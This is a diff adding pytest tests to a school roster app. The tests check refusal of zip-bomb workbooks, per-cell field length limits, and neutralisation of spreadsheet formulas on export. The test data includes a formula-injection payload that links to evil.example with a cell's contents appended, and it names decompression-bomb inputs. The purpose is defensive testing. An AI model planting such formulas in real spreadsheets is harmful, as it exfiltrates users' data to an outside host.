@@ -13,7 +13,7 @@ from typing import Any
 
 import pytest
 import redis
-from admin_support import EXAMPLE, workbook_bytes
+from admin_support import EXAMPLE, bomb_workbook, workbook_bytes
 from conftest import delete_school_keys
 from openpyxl import load_workbook
 
@@ -201,3 +201,71 @@ def test_a_restart_with_the_same_file_keeps_what_administrators_changed(runtime:
     assert publish_configured(runtime, path)[school.id] == changed.version == first + 1
     path.write_text(export_yaml([school.model_copy(update={"name": "兴城市第一小学（新校区）"})]), encoding="utf-8")
     assert publish_configured(runtime, path)[school.id] == first + 2, "an edited file is published at start"
+
+
+def test_a_workbook_that_unpacks_past_the_limit_is_refused_before_it_is_read(example: School) -> None:
+    bomb = bomb_workbook(roster_files.MAX_UNPACKED_BYTES + 1024 * 1024)
+    assert len(bomb) < 100 * 1024
+    with pytest.raises(roster_files.RosterFileError, match="24 MB"):
+        read_upload([("file", "roster.xlsx", bomb)])
+    assert read_upload([("file", "roster.xlsx", bomb_workbook(1024))])["students"].rows, "a small one is read"
+
+
+def test_every_field_has_a_maximum_length_reported_at_its_cell(example: School) -> None:
+    book = load_workbook(io.BytesIO(roster_files.workbook(example)))
+    _cell(book, "学生", 2, "姓名").value = "张" * 51
+    _cell(book, "学生", 3, "家长1电话").value = "1" * 5000
+    _cell(book, "学生", 4, "家长1关系").value = "妈" * 21
+    _cell(book, "学生", 5, "学号").value = "s" * 65
+    _cell(book, "教职工", 2, "姓名").value = "王" * 32767  # as long as Excel lets a cell be
+    _cell(book, "班级", 2, "班级名称").value = "班" * 51
+    checked = check_roster(example, read_upload([("file", "roster.xlsx", workbook_bytes(book))]))
+    assert checked.school is None
+    too_long = {(p.sheet, p.row, p.column): p.message for p in checked.problems if p.message.startswith("太长了")}
+    assert too_long == {
+        ("学生", 2, "姓名"): "太长了：最多 50 个字符，这里有 51 个",
+        ("学生", 3, "家长1电话"): "太长了：最多 20 个字符，这里有 5000 个",
+        ("学生", 4, "家长1关系"): "太长了：最多 20 个字符，这里有 21 个",
+        ("学生", 5, "学号"): "太长了：最多 64 个字符，这里有 65 个",
+        ("教职工", 2, "姓名"): "太长了：最多 50 个字符，这里有 32767 个",
+        ("班级", 2, "班级名称"): "太长了：最多 50 个字符，这里有 51 个",
+    }
+    assert max(len(str(p)) for p in checked.problems) < 200, "no message quotes an over-long cell back"
+
+
+def test_the_directory_refuses_an_over_long_name_from_any_source(example: School) -> None:
+    document = example.model_dump(mode="json")
+    document["students"][0]["name"] = "张" * 51
+    with pytest.raises(ValueError, match="at most 50 characters"):
+        School.model_validate(document)
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+1", "-2+3", "@SUM(A1:A9)"]
+
+
+def test_an_export_writes_no_live_formula_and_reads_back_what_it_wrote(example: School) -> None:
+    students = list(example.students)
+    for n, text in enumerate(FORMULAS):
+        guardians = tuple(g.model_copy(update={"relation": text[:20]}) for g in students[n].guardians)
+        students[n] = students[n].model_copy(update={"name": text, "guardians": guardians})
+    staff = [example.staff[0].model_copy(update={"name": "=1+2"}), *example.staff[1:]]
+    school = example.model_copy(update={"students": tuple(students), "staff": tuple(staff)})
+
+    book = load_workbook(io.BytesIO(roster_files.workbook(school)))  # as Excel would: formulas are formulas
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    names = [book["学生"].cell(n + 2, 2).value for n in range(len(FORMULAS))]
+    assert names == ["'" + text for text in FORMULAS]
+    assert str(_cell(book, "学生", 2, "家长1电话").value).startswith("1"), "a mainland mobile is written without +86"
+    assert roster_files.neutralised("\t=1+1") == "'\t=1+1" and roster_files.neutralised("\r=1") == "'\r=1"
+    for kind in ("students", "staff"):
+        rows = roster_files.csv_file(kind, school).decode("utf-8-sig").splitlines()
+        assert not any(field.startswith(roster_files.FORMULA_STARTS) for line in rows for field in line.split(","))
+
+    for upload in ([("file", "roster.xlsx", roster_files.workbook(school))],
+                   [(kind, f"{kind}.csv", roster_files.csv_file(kind, school)) for kind in roster_files.SHEETS]):
+        checked = check_roster(school, read_upload(upload))
+        assert checked.school is not None, [str(p) for p in checked.problems]
+        assert [s.name for s in checked.school.students[:len(FORMULAS)]] == FORMULAS
+        assert checked.school.staff[0].name == "=1+2"
+        assert checked.school.model_dump() == school.model_dump(), "download, upload: the same directory"
